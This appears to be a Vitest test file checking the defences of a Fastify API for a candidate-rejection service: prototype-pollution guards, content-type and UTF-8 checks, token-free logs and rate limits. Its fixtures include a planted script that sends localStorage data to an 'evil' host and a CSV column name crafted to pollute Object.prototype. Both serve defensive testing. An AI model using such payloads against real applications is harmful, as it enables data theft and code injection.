import { Client, Connection } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ApiKeys } from '../../client/api/keys';
import { buildApi, type ApiOptions } from '../../client/api/server';
import { KEYS } from './harness';

/**
 * The HTTP surface's own defences (issue 11, findings 1, 8-11 and the rate limits), on the real Fastify app through
 * inject(). None of these requests may reach Temporal: the client's connection is lazy and points nowhere, so a
 * request that got through to a start or a query would fail with a 5xx instead of the refusal asserted.
 */
const HEADER = 'id,candidate.name,candidate.email,candidate.timezone,company,role,rejectedAt,interviewers[0].name,interviewers[0].email';
const ROW = 'http-1,Ada Lovelace,ada@example.com,UTC,Acme,Engineer,2026-11-20T10:00:00Z,Grace Hopper,grace@acme.example.com';
const auth = (key: string) => ({ authorization: `Bearer ${key}` });

const client = new Client({ connection: Connection.lazy({ address: '127.0.0.1:1', connectTimeout: '1 second' }) });
const build = (options: Partial<ApiOptions> = {}) =>
  buildApi({ client, taskQueue: 'nowhere', keys: new ApiKeys().addKey('acme', KEYS.acme).addKey('bravo', KEYS.bravo), ...options });

describe('the dashboard serves its own files only', () => {
  let app: FastifyInstance;
  beforeAll(async () => {
    app = build();
    await app.ready();
  });
  afterAll(() => app.close());
  afterEach(() => {
    delete (Object.prototype as Record<string, unknown>).pwnjs;
  });

  it('answers /dashboard/__proto__, constructor, toString with 404, not 500', async () => {
    for (const file of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
      const response = await app.inject({ method: 'GET', url: `/dashboard/${file}` });
      expect(response.statusCode, file).toBe(404);
      expect(response.json(), file).toEqual({ errors: [{ field: '(url)', problem: 'no such file' }] });
    }
    expect((await app.inject({ method: 'GET', url: '/dashboard/app.js' })).statusCode).toBe(200);
  });

  it('does not serve an entry planted on Object.prototype (script-src self would run it)', async () => {
    (Object.prototype as Record<string, unknown>).pwnjs = { type: 'text/javascript', body: 'fetch("//evil/"+localStorage.key)' };
    const response = await app.inject({ method: 'GET', url: '/dashboard/pwnjs' });
    expect(response.statusCode).toBe(404);
    expect(response.body).not.toContain('evil');
  });
});

describe('POST /imports', () => {
  let app: FastifyInstance;
  beforeAll(async () => {
    app = build();
    await app.ready();
  });
  afterAll(() => app.close());

  it('answers 415 to anything but text/csv, as docs/api.md promises', async () => {
    const csv = `${HEADER}\n${ROW}\n`;
    for (const [type, payload] of [
      ['application/json', JSON.stringify(csv)],
      ['text/plain', csv],
      ['text/plain; charset=utf-8', csv],
    ] as const) {
      const response = await app.inject({ method: 'POST', url: '/imports', headers: { ...auth(KEYS.acme), 'content-type': type }, payload });
      expect(response.statusCode, type).toBe(415);
      expect(response.json<{ errors: { field: string; problem: string }[] }>().errors[0]?.problem, type).toMatch(/^send the CSV file as text\/csv/);
    }
  });

  it('refuses a polluting column with 400 naming it; the API keeps answering every tenant', async () => {
    const response = await app.inject({
      method: 'POST',
      url: '/imports',
      headers: { ...auth(KEYS.bravo), 'content-type': 'text/csv' },
      payload: `${HEADER},policy.constructor.prototype.pwnjs\n${ROW},x\n`,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ errors: [{ field: '(csv)', problem: expect.stringContaining('column "policy.constructor.prototype.pwnjs"') as string }] });
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('pwnjs');
    const other = await app.inject({ method: 'POST', url: '/rejections', headers: { ...auth(KEYS.acme), 'content-type': 'application/json' }, payload: '{}' });
    expect(other.statusCode).toBe(400);
    expect(other.json<{ errors: { field: string }[] }>().errors.map((error) => error.field)).toContain('candidate');
  });

  it('refuses an index beyond the schema maximum with 400, at once', async () => {
    const response = await app.inject({ method: 'POST', url: '/imports', headers: { ...auth(KEYS.acme), 'content-type': 'text/csv' }, payload: `${HEADER},interviewers[999999999].name\n${ROW},x\n` });
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain('index 999999999 is beyond the last \\"interviewers\\"');
  });
});

describe('bodies that are not UTF-8', () => {
  let app: FastifyInstance;
  beforeAll(async () => {
    app = build();
    await app.ready();
  });
  afterAll(() => app.close());
  const latin1Name = Buffer.concat([Buffer.from('{"id":"utf8-1","candidate":{"name":"Ada '), Buffer.from([0xe9, 0xe9]), Buffer.from(' Lovelace"}}')]);

  it('POST /rejections refuses them with 400 naming the body, before anything is validated or started', async () => {
    const response = await app.inject({ method: 'POST', url: '/rejections', headers: { ...auth(KEYS.acme), 'content-type': 'application/json' }, payload: latin1Name });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ errors: [{ field: '(body)', problem: expect.stringContaining(`is not valid UTF-8 (the first bad byte is at offset ${'{"id":"utf8-1","candidate":{"name":"Ada '.length})`) as string }] });
  });

  it('POST /imports refuses them too', async () => {
    const csv = Buffer.concat([Buffer.from(`${HEADER}\nhttp-2,Ada `), Buffer.from([0xff]), Buffer.from(` Lovelace${ROW.slice('http-1,Ada Lovelace'.length)}\n`)]);
    const response = await app.inject({ method: 'POST', url: '/imports', headers: { ...auth(KEYS.acme), 'content-type': 'text/csv' }, payload: csv });
    expect(response.statusCode).toBe(400);
    expect(response.json<{ errors: { field: string; problem: string }[] }>().errors[0]).toMatchObject({ field: '(body)', problem: expect.stringContaining('is not valid UTF-8') as string });
  });
});

describe('request logs', () => {
  it('never contain a query string (unsubscribe tokens)', async () => {
    const lines: string[] = [];
    const app = build({ logger: { stream: { write: (line: string) => void lines.push(line) } } });
    try {
      await app.inject({ method: 'GET', url: '/unsubscribe?token=u2.SECRET-TOKEN-abcdef' });
      await app.inject({ method: 'POST', url: '/unsubscribe?token=u2.SECRET-TOKEN-abcdef', payload: 'List-Unsubscribe=One-Click', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await app.inject({ method: 'GET', url: '/health?token=SECRET-TOKEN-abcdef' });
    } finally {
      await app.close();
    }
    const log = lines.join('');
    expect(log).toContain('"url":"/unsubscribe"');
    expect(log).toContain('"url":"/health"');
    expect(log).not.toContain('SECRET-TOKEN');
  });
});

describe('rate limits', () => {
  const imports = (app: FastifyInstance, key: string | undefined, remoteAddress = '192.0.2.1') =>
    app.inject({ method: 'POST', url: '/imports', headers: { ...(key ? auth(key) : {}), 'content-type': 'text/plain' }, payload: 'x', remoteAddress });

  it('per key: a burst gets 429 with Retry-After; the other tenant is unaffected', async () => {
    const app = build({ rateLimits: { perKey: 5, perIp: 1000 } });
    try {
      const statuses: number[] = [];
      for (let index = 0; index < 7; index += 1) statuses.push((await imports(app, KEYS.acme)).statusCode);
      expect(statuses).toEqual([415, 415, 415, 415, 415, 429, 429]);
      const limited = await imports(app, KEYS.acme);
      expect(limited.statusCode).toBe(429);
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      expect(Number(limited.headers['retry-after'])).toBeLessThanOrEqual(60);
      expect(limited.json<{ errors: { problem: string }[] }>().errors[0]?.problem).toMatch(/^too many requests with this API key \(at most 5 a minute\): retry after \d+ s$/);
      expect((await imports(app, KEYS.bravo)).statusCode).toBe(415);
    } finally {
      await app.close();
    }
  });

  it('per IP, before the key is checked: a key-guessing client is stopped; other addresses are not', async () => {
    const app = build({ rateLimits: { perIp: 4, perKey: 1000 } });
    try {
      const statuses: number[] = [];
      for (let index = 0; index < 6; index += 1) statuses.push((await imports(app, `guess-${index}-0123456789abcdef`, '198.51.100.7')).statusCode);
      expect(statuses).toEqual([401, 401, 401, 401, 429, 429]);
      expect((await imports(app, KEYS.acme, '198.51.100.7')).statusCode).toBe(429);
      expect((await imports(app, KEYS.acme, '198.51.100.8')).statusCode).toBe(415);
    } finally {
      await app.close();
    }
  });

  it('webhooks have limits of their own, per tenant webhook', async () => {
    const app = build({ rateLimits: { webhooks: 3, perIp: 1, perKey: 1 } });
    try {
      const deliver = (tenant: string) => app.inject({ method: 'POST', url: `/webhooks/${tenant}/greenhouse`, headers: { 'content-type': 'application/json' }, payload: '{}' });
      const statuses: number[] = [];
      for (let index = 0; index < 5; index += 1) statuses.push((await deliver('acme')).statusCode);
      expect(statuses).toEqual([404, 404, 404, 429, 429]);
      expect((await deliver('bravo')).statusCode).toBe(404);
    } finally {
      await app.close();
    }
  });
});
